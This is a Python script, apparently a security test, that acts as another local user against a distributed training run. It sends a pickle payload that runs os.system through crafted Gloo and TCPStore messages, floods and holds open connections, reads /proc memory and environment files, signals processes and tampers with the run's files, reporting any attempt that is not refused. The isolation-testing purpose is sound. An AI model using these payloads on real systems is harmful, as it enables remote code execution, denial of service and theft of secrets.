"""A program of another user that knows everything about a run but may do nothing: it tries to run code in it, to change
its files, and to stop it.

    python -I attacker.py MARKERS < TARGETS

TARGETS is a line, a JSON object with the run's pids, TCP addresses, Unix sockets and paths. It prints a line for each
attempt that should have been refused and was not, then "DONE" with the number of attempts, and ends with its input.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import signal
import socket
import struct
import sys
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

NUM_HELD = 200
"""Connections that are opened to each port and say nothing more."""


class Payload:
    """Runs a command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def messages(markers: str) -> Iterator[bytes]:
    pickled = pickle.dumps(Payload(f"touch {markers}/unpickled"))
    yield from (struct.pack("<Q", number) for number in range(8))  # numbers of Gloo's connections
    yield pickled
    yield struct.pack(">I", len(pickled)) + pickled
    # TCPStore: validate, then set
    for key in (b"default_pg/0//cpu//0/rank_0", b"store_based_barrier_key:1", b"default_pg/0//cpu//0/0"):
        word = struct.pack("<Q", len(key)) + key
        yield b"\0" + struct.pack("<I", 0x3C85F7CE) + b"\1" + word + struct.pack("<Q", len(pickled)) + pickled
    yield b'{"kind": "Start"}\n' * 10
    yield os.urandom(100_000)


def attempts(targets: dict[str, Any]) -> Iterator[tuple[str, Callable[[], object]]]:
    """Each thing that has to be refused: (what, a call that raises OSError if it is)."""
    for pid in targets["pids"]:
        for number in (0, signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
            yield f"signal {number} to {pid}", partial(os.kill, pid, number)
        for name in ("mem", "environ", "fd/0", "fd/1", "cwd", "root", "maps"):
            for flags in (os.O_RDONLY, os.O_RDWR):
                yield f"/proc/{pid}/{name}", partial(os.open, f"/proc/{pid}/{name}", flags)
    for path in targets["paths"]:
        for flags in (os.O_RDONLY, os.O_WRONLY):
            yield f"open {path}", partial(os.open, path, flags | os.O_NONBLOCK)
        yield f"chmod {path}", partial(Path(path).chmod, 0o777)
        yield f"rename {path}", partial(Path(path).rename, path + "-moved")
        yield f"create in {path}", partial(os.open, path + "/made", os.O_CREAT | os.O_WRONLY)
    for address in targets["unix"]:
        name = "\0" + address[1:] if address.startswith("@") else address
        yield f"unix {address}", partial(socket.socket(socket.AF_UNIX).connect, name)


def main() -> None:
    targets, markers = json.loads(sys.stdin.readline()), sys.argv[1]
    count = 0
    for what, attempt in attempts(targets):
        count += 1
        try:
            attempt()
        except FileNotFoundError:
            pass  # it has gone meanwhile
        except OSError:
            pass
        else:
            print(what)
    held: list[socket.socket] = []
    for host, port in targets["tcp"]:
        for message in messages(markers):
            count += 1
            with contextlib.suppress(OSError):
                connection = socket.create_connection((host, port), timeout=0.2)
                held.append(connection)
                connection.sendall(message)
        for _ in range(NUM_HELD):
            with contextlib.suppress(OSError):
                connection = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
                connection.setblocking(False)
                held.append(connection)
                connection.connect((host, port))
    print("DONE", count, flush=True)
    sys.stdin.read()  # connections stay open until its input ends


if __name__ == "__main__":
    main()
